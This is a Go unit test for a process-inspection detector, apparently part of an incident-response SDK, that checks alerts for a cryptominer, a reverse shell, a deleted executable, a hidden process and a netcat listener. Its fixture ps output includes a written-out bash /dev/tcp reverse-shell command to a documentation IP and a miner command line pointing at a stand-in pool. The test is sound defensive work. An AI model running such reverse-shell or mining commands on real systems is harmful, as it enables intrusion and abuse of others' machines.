//go:build !wasip1

package main

import (
	"testing"

	"github.com/firebreak-ir/firebreak/sdk"
)

func deliver(t *testing.T, p *procs, name, content string) {
	t.Helper()
	var b sdk.Builder
	b.Begin(sdk.Header{Kind: sdk.KindFile})
	b.Str(sdk.FieldPath, "/.firebreak-volatile/"+name)
	b.End()
	ev, _, _ := b.Batch().Next()
	if err := p.File(ev, []byte(content)); err != nil {
		t.Fatal(err)
	}
}

func TestProcesses(t *testing.T) {
	sdk.Test.Reset()
	p := &procs{}
	if err := p.Init(nil); err != nil {
		t.Fatal(err)
	}
	deliver(t, p, "1-processes", `    1     0 root      0.0  0.1 Mon Nov 23 01:00:00 2026 Ss   /sbin/init
  400     1 root      0.0  0.1 Mon Nov 23 01:00:01 2026 Ss   /usr/sbin/sshd -D
  812     1 www-data 99.1  2.0 Mon Nov 23 03:00:00 2026 Rl   /tmp/.x/kworker -o stratum+tcp://pool.example:3333
  813   400 www-data  0.0  0.0 Mon Nov 23 03:01:00 2026 S    bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1
  900   400 root      0.0  0.0 Mon Nov 23 03:02:00 2026 R    ps -eo pid,ppid
`)
	deliver(t, p, "2-process-executables", "lrwxrwxrwx 1 www-data www-data 0 Nov 23 03:00 /proc/812/exe -> /tmp/.x/kworker (deleted)\n")
	deliver(t, p, "3-process-ids", "/proc/1\n/proc/400\n/proc/666\n/proc/812\n/proc/813\n/proc/900\n/proc/901\n")
	deliver(t, p, "4-network-connections", `Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process
tcp   LISTEN 0      128    0.0.0.0:22         0.0.0.0:*         users:(("sshd",pid=400,fd=3))
tcp   LISTEN 0      1      0.0.0.0:31337      0.0.0.0:*         users:(("nc",pid=950,fd=3))
`)
	want := map[uint32]int{sidMiner: 1, sidReverse: 1, sidDeletedExe: 1, sidHidden: 1, sidListener: 1}
	got := map[uint32]int{}
	for _, a := range sdk.Test.Alerts {
		got[a.SignatureID]++
		t.Log(a.Signature)
	}
	for sid, n := range want {
		if got[sid] != n {
			t.Errorf("signature %d: %d alerts, want %d", sid, got[sid], n)
		}
	}
	if got[sidHidden] == 1 {
		for _, a := range sdk.Test.Alerts {
			if a.SignatureID == sidHidden && a.Metadata[1] != "pid=666" {
				t.Errorf("hidden process %v, want pid 666 (901 started after ps)", a.Metadata)
			}
		}
	}
}
